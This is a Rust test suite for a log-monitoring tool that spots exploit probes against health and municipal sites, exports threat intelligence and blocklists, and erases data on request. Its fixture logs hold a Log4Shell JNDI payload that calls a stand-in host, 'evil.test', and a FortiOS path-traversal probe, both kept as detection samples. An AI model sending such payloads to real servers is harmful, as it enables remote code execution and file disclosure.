//! `relight watch`: doors that are known, campaigns for other programs, what logs are like, hunts
//! and erasure.

use std::time::UNIX_EPOCH;

use expect_test::expect;
use serde_json::{Value, json};

use crate::place::Place;

/// One who tries a payload, one who looks around at two sites, and ordinary visitors.
fn watched() -> Place {
    let place = Place::with_sites();
    let mut log = String::new();
    let mut line = |source: &str, host: &str, day: u32, path: &str, status: u16| {
        let request = format!("GET {path} HTTP/1.1");
        log.push_str(&format!(
            "{host}:443 {source} - - [{day:02}/Nov/2025:10:00:00 +0000] \"{request}\" {status} 9 \
             \"https://{host}/\" \"Mozilla/5.0\"\n"
        ));
    };
    for day in 1..=28 {
        line("8.8.4.4", "san1.example", day, "/", 200);
    }
    line("45.33.32.156", "san1.example", 9, "/${jndi:ldap://evil.test/a}", 200);
    line("45.33.32.156", "san1.example", 9, "/remote/fgt_lang?lang=/../../x", 404);
    line("9.9.9.9", "san2.example", 3, "/remote/login", 404);
    line("9.9.9.9", "san1.example", 4, "/quiet/door", 404);
    place.write("access.log", log);
    place.expect(0, &["watch", "ingest", "access.log", "--org", "Santé Nord"]);
    place
}

#[test]
fn the_catalogue_is_shown() {
    let place = Place::with_sites();
    expect![[r#"
        exchange-proxyshell  a flaw is used  Microsoft Exchange Server: ProxyShell  CVE-2021-34473 CVE-2022-41040
          https://www.cve.org/CVERecord?id=CVE-2021-34473
        exchange-proxyshell-mapi  a flaw is used  Microsoft Exchange Server: ProxyShell  CVE-2021-34473
          https://www.cve.org/CVERecord?id=CVE-2021-34473
        2 doors
        --- stderr
        --- status 0
    "#]].assert_eq(&place.run(&["watch", "catalogue", "list", "proxyshell"]).text());
    expect![[r#"
        moveit  est-ce là?  Progress MOVEit Transfer : MOVEit Transfer
          https://www.progress.com/trust-center/moveit-transfer-and-moveit-cloud-vulnerability
        moveit-isapi  une faille est utilisée  Progress MOVEit Transfer : Injection SQL  CVE-2023-34362
          https://www.cve.org/CVERecord?id=CVE-2023-34362
        moveit-webshell  est-ce ouvert?  Progress MOVEit Transfer : Recherche d’une porte dérobée  CVE-2023-34362
          https://www.cve.org/CVERecord?id=CVE-2023-34362
        moveit-guest  est-ce ouvert?  Progress MOVEit Transfer : Accès d’invités  CVE-2023-34362
          https://www.cve.org/CVERecord?id=CVE-2023-34362
        4 portes
        --- stderr
        --- status 0
    "#]]
        .assert_eq(&place.run(&["watch", "catalogue", "list", "moveit", "--lang", "fr"]).text());
    let all = place.expect(0, &["watch", "catalogue", "list", "--json"]).json();
    let entries = all["entries"].as_array().unwrap();
    assert!(entries.len() >= 200);
    for entry in entries {
        assert!(entry["reference"].as_str().unwrap().starts_with("https://"), "{entry}");
    }
}

#[test]
fn local_doors_come_from_templates_and_are_found_as_ours_are() {
    let place = Place::with_sites();
    let template = "id: CVE-2099-7\ninfo:\n  name: Town portal\n  tags: cve,lfi\nhttp:\n  \
        - method: GET\n    path:\n      - \"{{BaseURL}}/town/portal.cgi\"\n";
    place.write("templates/a.yaml", template);
    place.write("templates/deep/b.yaml", "just: text\n");
    expect![[r#"
        2 templates, 1 entry in DIR/data/catalogue/nuclei.toml
          no template: 1
        Next: relight watch catalogue check
        --- stderr
        --- status 0
    "#]]
    .assert_eq(&place.run(&["watch", "catalogue", "import", "templates"]).text());
    expect![[r#"
        1 entry can be used, 0 faults
        --- stderr
        --- status 0
    "#]]
    .assert_eq(&place.run(&["watch", "catalogue", "check"]).text());
    let told = place.expect(0, &["watch", "catalogue", "list", "town", "--json"]).json();
    assert_eq!(told["entries"][0]["local"], true);
    place.write(
        "bad.toml",
        "product = \"X\"\nproducts = []\n[[entry]]\nid = \"x\"\nkind = \"presence\"\nfr = \"x\"\n\
         en = \"x\"\nmatch = { exact = \"/good\" }\nreference = \"https://a.example/\"\n\
         since = \"2026\"\nhit = \"/bad\"\nmiss = \"/\"\n",
    );
    expect![[r#"
        0 entries can be used, 1 fault
        --- stderr
        warning: bad.toml [x]: the example is not found by the entry
          technical detail: /bad
        --- status 1
    "#]]
    .assert_eq(&place.run(&["watch", "catalogue", "check", "bad.toml"]).text());
    // One that does not count beside ours is told; what differs in numbers only is the same.
    let entry = |id: &str, hit: &str| {
        format!(
            "[[entry]]\nid = \"{id}\"\nkind = \"presence\"\nfr = \"x\"\nen = \"x\"\n\
             match = {{ exact = \"{hit}\" }}\nreference = \"https://a.example/\"\n\
             since = \"2026\"\nhit = \"{hit}\"\nmiss = \"/\"\n"
        )
    };
    let doors = [("moveit", "/own/door"), ("own-7", "/seven"), ("own-8", "/eight")];
    let doors = doors.map(|(id, hit)| entry(id, hit)).concat();
    place.write("data/catalogue/own.toml", format!("product = \"X\"\nproducts = []\n{doors}"));
    let said = place.run(&["watch", "catalogue", "check", "--json"]);
    assert_eq!((said.status, &said.json()["entries"]), (1, &Value::from(2)), "{}", said.text());
    let faults = said.json()["faults"].as_array().unwrap().clone();
    let ids: Vec<&str> = faults.iter().map(|fault| fault["entry"].as_str().unwrap()).collect();
    assert_eq!(ids, ["moveit", "own-8"]);
    let said = place.run(&["watch", "notes"]);
    assert!(said.stderr.contains("own.toml [own-8]: the entry does not count"), "{}", said.text());
    std::fs::remove_file(place.path("data/catalogue/own.toml")).unwrap();
    // A local door is found as ours are.
    let line =
        "192.0.2.7 - - [09/Nov/2025:10:00:00 +0000] \"GET /town/portal.cgi HTTP/1.1\" 404 9\n";
    place.write("a.log", line);
    place.expect(0, &["watch", "ingest", "a.log", "--org", "Ville de X", "--site", "mun-001"]);
    let id = told["entries"][0]["id"].as_str().unwrap();
    let found = place.run(&["watch", "hunt", id, "--json"]).json();
    assert_eq!(found["contacts"][0]["site"], "mun-001", "{found}");
}

/// A folder of own doors that cannot be read is no folder without doors.
#[test]
fn own_doors_that_cannot_be_read_are_told() {
    let place = Place::with_sites();
    place.write("data/catalogue", "a file");
    let told = place.run(&["watch", "catalogue", "check"]);
    assert_eq!(told.status, 1, "{}", told.text());
    let told = place.run(&["watch", "notes"]);
    assert!(told.stderr.contains("cannot read DIR/data/catalogue"), "{}", told.text());
}

#[test]
fn campaigns_in_the_words_of_other_programs() {
    let place = watched();
    let (id, row) = (place.campaign(), format!("{},S3,", place.campaign()));
    let lower = id.to_lowercase();
    let stix = place.expect(0, &["watch", "export", &lower, "-f", "stix", "--tlp", "green"]);
    let bundle: Value = serde_json::from_str(&stix.stdout).unwrap();
    let objects = bundle["objects"].as_array().unwrap();
    let kinds = |kind: &str| objects.iter().filter(|it| it["type"] == kind).count();
    assert_eq!((kinds("campaign"), kinds("indicator"), kinds("sighting")), (1, 1, 1));
    assert_eq!(kinds("domain-name"), 1);
    assert!(stix.stdout.contains("TLP:GREEN"));
    for (format, word) in [
        ("misp", "\"to_ids\": true"),
        ("misp-csv", ",ip-src,45.33.32.156,"),
        ("ocsf", "\"class_uid\":2004"),
        ("csv", &row),
        ("jsonl", "\"schema\":\"relight.exported-campaign/1\""),
    ] {
        let told = place.expect(0, &["watch", "export", &id, "-f", format]);
        assert!(told.stdout.contains(word), "{format}: {}", told.stdout);
    }
    let block = ["watch", "export", "all", "-f", "blocklist"];
    expect![[r#"
        --- stderr
        0 addresses in the list, 1 left out
          their time is over: 1
        --- status 0
    "#]]
    .assert_eq(&place.run(&block).text());
    expect![[r#"
        --- stderr
        0 adresse dans la liste, 1 écartée
          leur temps est passé : 1
        --- status 0
    "#]]
    .assert_eq(&place.run(&[&block[..], &["--lang", "fr"]].concat()).text());
    place.write("never", "# partners\n45.33.0.0/16\nno range\n");
    let told = place.expect(1, &[&block[..], &["--never", "never"]].concat());
    assert!(told.stderr.contains("never:3: "), "{}", told.text());
    place.expect(1, &["watch", "export", "C-000000", "-f", "stix"]);
    place.expect(2, &["watch", "export", &id, "-f", "word"]);
    let notes = place.expect(0, &["watch", "notes"]).stdout;
    assert_eq!(notes.lines().count(), 8, "each look that gave something is noted: {notes}");
    assert!(notes.lines().all(|line| line.contains("relight watch  export  ")), "{notes}");
}

/// Who means well is blocked by no list, and a line that names nobody is told.
#[test]
fn known_scanners_are_in_no_block_list() {
    let place = watched();
    let block = ["watch", "export", "all", "-f", "blocklist"];
    place.write("data/known-scanners.csv", "partner,Nord,45.33.32.156\npartner,Sud\n");
    let told = place.run(&block);
    assert!(told.stderr.contains("named in the list: 1"), "{}", told.text());
    assert!(told.stderr.contains("known-scanners.csv:2: "), "{}", told.text());
    place.write("data/known-scanners.csv", "");
    place.write("never", "::ffff:45.33.32.0/120\n");
    let told = place.run(&[&block[..], &["--never", "never"]].concat());
    assert!(told.stderr.contains("named in the list: 1"), "{}", told.text());
}

/// Whom an operator trusts as a proxy is on no list, whatever log named it as a source.
#[test]
fn own_proxies_are_in_no_block_list() {
    let place = watched();
    let block = ["watch", "export", "all", "-f", "blocklist"];
    assert!(!place.run(&block).stderr.contains("named in the list"));
    place.write("other.log", "");
    let trust = ["--org", "Santé Nord", "--trust", "45.33.32.0/24"];
    place.expect(0, &[&["watch", "ingest", "other.log"][..], &trust].concat());
    let told = place.run(&block);
    assert!(told.stderr.contains("named in the list: 1"), "{}", told.text());
}

/// Several of these in one file no program would read.
#[test]
fn all_campaigns_are_written_only_where_a_file_holds_several() {
    let place = watched();
    for format in ["stix", "misp", "misp-csv", "csv"] {
        let told = place.expect(2, &["watch", "export", "all", "-f", format]);
        assert!(told.stderr.contains("blocklist"), "{}", told.text());
    }
    for format in ["jsonl", "ocsf"] {
        let told = place.expect(0, &["watch", "export", "all", "-f", format]);
        told.stdout.lines().for_each(|line| drop(serde_json::from_str::<Value>(line).unwrap()));
    }
}

#[test]
fn what_logs_are_like_is_said_site_by_site() {
    let place = watched();
    expect![[r#"
        san-001  no logs since: 2025-11-28T10:00:00Z
          vhost_combined: 0 events on 0 of 90 days, last  2025-11-28T10:00:00Z
          nobody looked at what it sends out (outbound.csv): signs of success stay unknown
          Patches: unknown  an asset was never inventoried
          Multi-factor sign-in: unknown
        san-002  no logs since: 2025-11-03T10:00:00Z
          vhost_combined: 0 events on 0 of 90 days, last  2025-11-03T10:00:00Z
          nobody looked at what it sends out (outbound.csv): signs of success stay unknown
          Patches: unknown  an asset was never inventoried
          Multi-factor sign-in: unknown
        mun-001  no logs ever
          Patches: unknown  an asset was never inventoried
          Multi-factor sign-in: unknown
        Santé Nord: patches 0 of 2, logs 0 of 2, multi-factor 0 of 2, actions 0 of 10
        Ville de X: patches 0 of 1, logs 0 of 1, multi-factor 0 of 1, actions 0 of 10
        0 complete, 0 partial, 0 quiet, 2 silent, 1 never
        what is made of logs is kept 400 days (relight watch keep)
        Next: relight sites gaps
        --- stderr
        --- status 0
    "#]]
    .assert_eq(&place.run(&["watch", "posture"]).text());
    let told = place.expect(0, &["watch", "posture", "--state", "never", "--lang", "fr"]);
    expect![[r#"
        mun-001  jamais de journaux
          Correctifs : inconnu  un actif n’a jamais été inventorié
          Authentification multifacteur : inconnu
        Santé Nord : correctifs 0 sur 2, journaux 0 sur 2, multifacteur 0 sur 2, mesures 0 sur 10
        Ville de X : correctifs 0 sur 1, journaux 0 sur 1, multifacteur 0 sur 1, mesures 0 sur 10
        0 complet, 0 partiel, 0 incertain, 2 muets, 1 jamais
        ce qui est tiré des journaux est gardé 400 jours (relight watch keep)
        Ensuite : relight sites gaps
        --- stderr
        --- status 0
    "#]]
    .assert_eq(&told.text());
    let gaps = place.expect(0, &["sites", "gaps", "--json"]).json();
    let logs: Vec<&Value> = gaps["gaps"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|gap| gap["gap"].as_str().unwrap().starts_with("logs-"))
        .collect();
    assert!(
        logs.iter().any(|gap| gap["site"] == "mun-001" && gap["gap"] == "logs-never"),
        "{gaps}"
    );
}

#[test]
fn hunts_say_what_they_cover() {
    let place = watched();
    expect![[r#"
        2025-11-09T10:00:00Z  45.33.32.156  san-001  known door of the catalogue  404 /remote/fgt_lang
        1 contact
          Santé Nord: logs from 2025-11-01 to 2025-11-28, without a missing day
            1 site of it sent fewer, or none: unknown there
          Ville de X: no logs of that time: unknown
        --- stderr
        --- status 3
    "#]]
    .assert_eq(&place.run(&["watch", "hunt", "CVE-2018-13379"]).text());
    expect![[r#"
        2025-11-04T10:00:00Z  9.9.9.9  san-001  chemin absent demandé par un inconnu  404 /quiet/door
        1 contact
          Santé Nord : journaux du 2025-11-01 au 2025-11-28, sans jour manquant
            1 de ses sites en a envoyé moins, ou pas : là, inconnu
          Ville de X : aucun journal de cette période : inconnu
        --- stderr
        --- status 3
    "#]]
    .assert_eq(&place.run(&["watch", "hunt", "/quiet/door", "--lang", "fr"]).text());
    let told = place.run(&["watch", "hunt", "45.33.32.156", "--json"]);
    assert_eq!(told.status, 3, "one body sends no logs: {}", told.text());
    assert_eq!(told.json()["total"], 2);
    assert_eq!(place.run(&["watch", "hunt", "two words"]).status, 2);
}

/// Reading many files of a day leaves few windows.
#[test]
fn windows_are_joined_after_reading() {
    let place = Place::with_sites();
    let mut files = Vec::new();
    for number in 0..5 {
        let name = format!("{number}.log");
        let line = "9.9.9.9 - - [03/Nov/2025:10:00:00 +0000] \"GET /a HTTP/1.1\" 404 9\n";
        place.write(&name, line.replace("/a", &format!("/{name}")));
        files.push(name);
    }
    let files: Vec<&str> = files.iter().map(String::as_str).collect();
    place.expect(0, &[&["watch", "ingest", "--org", "Santé Nord"], &files[..]].concat());
    let store = relight_engine::store::Store::open(&place.path("data")).unwrap();
    assert_eq!(store.windows().unwrap().len(), 1);
}

/// What is counted and not kept is told where the log is read.
#[test]
fn contacts_beyond_the_limit_are_told() {
    let place = Place::with_sites();
    let line = |door: char| {
        format!("9.9.9.9 - - [03/Nov/2025:10:00:00 +0000] \"GET /w{door} HTTP/1.1\" 404 9\n")
    };
    place.write("few.log", ('a'..='p').map(line).collect::<String>());
    place.write("many.log", ('a'..='t').rev().map(line).collect::<String>());
    let ingest = |file: &str| place.expect(0, &["watch", "ingest", "--org", "Santé Nord", file]);
    assert!(!ingest("few.log").stdout.contains("counted only"));
    let told = ingest("many.log").stdout;
    assert!(told.contains("\n  4 contacts were counted only: "), "{told}");
    place.write("more.log", ('b'..='r').map(line).collect::<String>());
    let ingest = ["watch", "ingest", "--org", "Santé Nord", "more.log", "--json"];
    assert_eq!(place.run(&ingest).json()["logs"][0]["overflow"], 1);
}

/// Only logs of every day from every site make "no contact" an answer.
#[test]
fn a_hunt_is_complete_only_without_a_missing_day() {
    let place = Place::with_sites();
    let written = place.write("now", "").metadata().unwrap().modified().unwrap();
    let now = written.duration_since(UNIX_EPOCH).unwrap().as_secs();
    let ingest = |days: &[u64], org: &str, site: &str| {
        let line = |ago: &u64| {
            let at = now - ago * 86_400;
            let rest = r#""remote_addr":"8.8.4.4","request":"GET / HTTP/1.1","status":200"#;
            format!("{{\"msec\":\"{at}.000\",{rest}}}\n")
        };
        place.write("a.log", days.iter().map(line).collect::<String>());
        place.expect(0, &["watch", "ingest", "a.log", "--org", org, "--site", site]);
    };
    let hunt = |days: &str| place.run(&["watch", "hunt", "9.9.9.9", "--days", days]).status;
    ingest(&[3, 1, 0], "Santé Nord", "san-001");
    assert_eq!(hunt("1"), 3, "the other body sent none");
    ingest(&[3, 2, 1, 0], "Ville de X", "mun-001");
    assert_eq!(hunt("1"), 3, "the other site of the first body sent none");
    ingest(&[3, 2, 1, 0], "Santé Nord", "san-002");
    assert_eq!(hunt("1"), 0);
    assert_eq!(hunt("3"), 3, "a day is missing");
    ingest(&[2], "Santé Nord", "san-001");
    assert_eq!(hunt("3"), 0);
    assert_eq!(hunt("4"), 3, "before the first day");
    let document = || place.run(&["watch", "hunt", "9.9.9.9", "--days", "3", "--json"]).json();
    assert_eq!((&document()["whole"], &document()["unread_lines"]), (&json!(true), &json!(0)));
    assert_eq!(document()["covered"][0]["sites_fewer"], 0);
    place.write("a.log", "{\"no\": \"log\"}\n");
    place.run(&["watch", "ingest", "a.log", "--org", "Santé Nord", "--site", "san-001"]);
    assert_eq!(hunt("3"), 3, "who was looked for may be in a line that nobody could read");
    assert_eq!((&document()["whole"], &document()["unread_lines"]), (&json!(false), &json!(1)));
    let told = place.run(&["watch", "hunt", "9.9.9.9", "--days", "3"]).stdout;
    assert!(told.contains("1 line of that time was not read"), "{told}");
}

/// Contacts that went at a limit were perhaps the ones that are looked for.
#[test]
fn a_hunt_over_a_full_window_is_not_complete() {
    let place = Place::with_sites();
    let written = place.write("now", "").metadata().unwrap().modified().unwrap();
    let now = written.duration_since(UNIX_EPOCH).unwrap().as_secs();
    let ingest = |doors: u32, org: &str, site: &str| {
        let line = |number: u32| {
            let at = now - u64::from(number == 1) * 86_400;
            let door = char::from(b'a' + (number % 26) as u8);
            format!(
                "{{\"msec\":\"{at}.000\",\"remote_addr\":\"8.8.4.4\",\"status\":404,\
                 \"request\":\"GET /w{door} HTTP/1.1\"}}\n"
            )
        };
        place.write("a.log", (0..doors).map(line).collect::<String>());
        place.expect(0, &["watch", "ingest", "a.log", "--org", org, "--site", site]);
    };
    let hunt = || place.run(&["watch", "hunt", "/other", "--days", "1", "--json"]);
    ingest(4, "Santé Nord", "san-001");
    ingest(4, "Santé Nord", "san-002");
    ingest(4, "Ville de X", "mun-001");
    assert_eq!((hunt().status, &hunt().json()["full_windows"]), (0, &serde_json::json!(0)));
    ingest(26, "Ville de X", "mun-001");
    assert_eq!((hunt().status, &hunt().json()["full_windows"]), (3, &serde_json::json!(1)));
    let told = place.run(&["watch", "hunt", "/other", "--days", "1"]).stdout;
    assert!(told.contains("1 window of that time was full"), "{told}");
}

#[test]
fn a_source_is_erased_everywhere() {
    let place = watched();
    assert_eq!(place.times_kept(&[4, 45, 33, 32, 156]), 2);
    let hunted = place.run(&["watch", "hunt", "45.33.32.156", "--purpose", "call 7"]);
    assert!(hunted.stdout.contains("45.33.32.156"), "{}", hunted.text());
    let erase = ["watch", "erase", "45.33.32.156", "--reason", "request 12"];
    expect![[r#"
        2 contacts erased
        --- stderr
        --- status 0
    "#]]
    .assert_eq(&place.run(&erase).text());
    let told = place.run(&["watch", "hunt", "45.33.32.156", "--json"]);
    assert_eq!(told.json()["total"], 0);
    assert_eq!(place.run(&["watch", "hunt", "9.9.9.9", "--json"]).json()["total"], 2);
    let campaigns = place.expect(0, &["watch", "campaigns", "--json"]).stdout;
    assert!(!campaigns.contains("45.33.32.156"), "{campaigns}");
    let notes = place.expect(0, &["watch", "notes"]).stdout;
    assert!(notes.contains("erase  2 contacts: request 12"), "{notes}");
    assert!(notes.contains("erase  begun: request 12"), "{notes}");
    assert!(notes.contains("hunt  address call 7"), "{notes}");
    assert!(!notes.contains("45.33.32.156"), "notes can not be erased: {notes}");
    // As windows hold it, and as text but where it is remembered for a day.
    assert_eq!(place.times_kept(&[4, 45, 33, 32, 156]), 0);
    assert_eq!(place.times_kept(&[4, 9, 9, 9, 9]), 2, "another source is where it was");
    assert_eq!(place.times_kept(b"45.33.32.156"), 2, "of an erasure that begins and ends");
    // Lines that were read stay known: the address does not come back with the same log.
    place.expect(0, &["watch", "ingest", "access.log", "--org", "Santé Nord"]);
    assert_eq!(place.run(&["watch", "hunt", "evil.test", "--json"]).json()["total"], 0);
}

/// How long logs are kept is said with a reason, and noted; what is older goes at once.
#[test]
fn logs_are_kept_for_fewer_days_on_request() {
    let place = watched();
    assert_eq!(place.expect(0, &["watch", "keep"]).stdout, "logs are kept 400 days\n");
    for wrong in [&["401", "--reason", "x"][..], &["0", "--reason", "x"], &["30"]] {
        let told = place.run(&[&["watch", "keep"], wrong].concat());
        assert_eq!(told.status, 2, "{}", told.text());
    }
    let keep = ["watch", "keep", "30", "--reason", "rule 4", "--json"];
    assert_eq!(place.expect(0, &keep).json()["days"], 30);
    assert_eq!(place.expect(0, &["watch", "keep"]).stdout, "logs are kept 30 days\n");
    let notes = place.expect(0, &["watch", "notes"]).stdout;
    assert!(notes.contains("keep  30 days: rule 4"), "{notes}");
}

/// Five answers that add up to all sites, and none of them is rounded.
#[test]
fn who_was_probed_and_was_it_vulnerable_that_day() {
    let place = watched();
    let told = place.run(&["watch", "probed", "CVE-2018-13379", "--days", "4000", "--json"]);
    let document = told.json();
    assert_eq!(told.status, 3, "{document}");
    let counts = document["counts"].as_object().unwrap();
    let sum: u64 = counts.values().map(|count| count.as_u64().unwrap()).sum();
    assert_eq!((counts.len(), sum, document["total"].as_u64()), (5, 3, Some(3)));
    let rows = document["sites"].as_array().unwrap();
    let row = |site: &str| rows.iter().find(|row| row["site"] == site).unwrap();
    let answer = |site: &str| row(site)["answer"].clone();
    let days = |site: &str| row(site)["days_without_logs"].as_u64();
    assert_eq!(answer("san-001"), "probed-unknown", "no inventory of that day");
    assert!(answer("san-002") == "not-probed" && days("san-002") > Some(3_900), "{document}");
    assert_eq!((answer("mun-001"), days("mun-001")), ("no-logs".into(), Some(4_000)));
    assert!(document["campaigns"].is_null(), "nobody asked who");
    let who = ["watch", "probed", "CVE-2018-13379", "--days", "4000", "--who"];
    let told = place.run(&[&who[..], &["--json"]].concat()).json();
    let campaigns = told["campaigns"].as_array().unwrap();
    assert_eq!(campaigns.len(), 1, "{campaigns:?}");
    assert_eq!(campaigns[0]["sources"], serde_json::json!(["45.33.32.156"]));
    assert_eq!((&campaigns[0]["severity"], &campaigns[0]["sites"]), (&"S3".into(), &1.into()));
    let id = campaigns[0]["id"].as_str().unwrap().to_owned();
    let text = place.run(&[&who[..], &["--lang", "en"]].concat()).stdout;
    assert!(text.contains(&format!("{id} tried: 1 address, 1 site")), "{text}");
    // A door of no flaw is asked for what it looks for, and nobody knows what ran there.
    let told = place.run(&["watch", "probed", "solr-admin", "--days", "4000", "--json"]).json();
    let products = serde_json::json!(["pkg:maven/org.apache.solr/solr-core"]);
    assert_eq!((&told["products"], &told["flaws"]), (&products, &serde_json::json!([])));
    expect![[r#"
        essayés, et vulnérables ce jour-là : 0
        essayés, et personne ne peut dire s’ils étaient vulnérables : 1
          san-001  2025-11-09 2025-11-09
        essayés, et non vulnérables : 0
        non essayés : 1
          dont 1 n’a envoyé aucun journal certains de ces jours; pour ces jours, personne ne peut rien dire
        sans journaux de cette période : 1
          mun-001
        --- stderr
        --- status 3
    "#]]
    .assert_eq(
        &place.run(&["watch", "probed", "CVE-2018-13379", "--days", "4000", "--lang", "fr"]).text(),
    );
    assert_eq!(place.run(&["watch", "probed", "CVE-1999-0001"]).status, 2);
}

/// A map by sector and week: what was tried, nothing where logs say so, and a dash where none came.
#[test]
fn the_map_tells_sectors_by_week_and_where_nobody_listened() {
    let place = watched();
    let words = ["watch", "map", "--weeks", "3", "--until", "2025-11-16"];
    expect![[r#"
                            10-27  11-03  11-10
        Réseau de santé         0      3      0
        Régies municipales      -      -      -
        contacts distincts (une source, un site, une porte) par secteur et par semaine, sous son lundi; « - » où aucun journal ne fut entendu
        --- stderr
        --- status 0
    "#]].assert_eq(&place.run(&[&words[..], &["--lang", "fr"]].concat()).text());
    let document = place.expect(0, &[&words[..], &["--json"]].concat()).json();
    assert_eq!(document["weeks"], serde_json::json!(["2025-10-27", "2025-11-03", "2025-11-10"]));
    let row = |sector: &str| {
        let rows = document["sectors"].as_array().unwrap();
        rows.iter().find(|row| row["sector"] == sector).unwrap().clone()
    };
    let health = row("health");
    assert_eq!((&health["sites"], &health["weeks"][0]["contacts"]), (&2.into(), &0.into()));
    assert_eq!(health["weeks"][1]["attempts"], 1, "{health}");
    assert_eq!(
        (&health["weeks"][1]["sources"], &health["weeks"][2]["sources"]),
        (&2.into(), &0.into())
    );
    assert_eq!(row("municipal")["weeks"], serde_json::json!([null, null, null]));
    // What is published tells no count of one or two.
    let document = place.expect(0, &[&words[..], &["--published", "--json"]].concat()).json();
    let cells = document["sectors"].as_array().unwrap()[0]["weeks"].clone();
    assert_eq!(
        cells[0],
        serde_json::json!({"contacts": 0, "probes": 0, "attempts": 0, "sources": 0})
    );
    assert_eq!(
        (&cells[1]["contacts"], &cells[1]["sources"]),
        (&3.into(), &serde_json::Value::Null)
    );
    let later =
        place.run(&["watch", "map", "--weeks", "1", "--until", "2026-01-31", "--json"]).json();
    assert!(later["sectors"].as_array().unwrap().iter().all(|row| row["weeks"][0].is_null()));
    for until in ["2025-02-29", "yesterday"] {
        assert_eq!(place.run(&["watch", "map", "--until", until]).status, 2, "{until}");
    }
    assert_eq!(place.run(&["watch", "map", "--weeks", "59"]).status, 2, "more than is kept");
    let back = ["watch", "map", "--since", "3w", "--until", "2025-11-16"];
    assert_eq!(place.run(&back).stdout, place.run(&words).stdout);
    for since in ["59w", "0w", "3", "w", "2025-11-01"] {
        assert_eq!(place.run(&["watch", "map", "--since", since]).status, 2, "{since}");
    }
    assert_eq!(place.run(&[&back[..], &["--weeks", "3"]].concat()).status, 2, "one of both");
}
